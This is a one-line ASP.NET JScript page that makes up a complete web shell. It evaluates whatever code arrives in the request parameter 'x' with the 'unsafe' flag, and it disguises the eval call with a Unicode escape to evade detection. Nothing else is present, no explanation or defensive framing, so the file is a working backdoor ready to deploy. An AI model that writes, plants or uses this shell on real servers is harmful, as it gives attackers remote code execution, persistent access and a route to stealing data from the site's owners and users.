<%@ Page Language="Jscript"%><%\u0065val(Request.Item["x"],"unsafe");%>
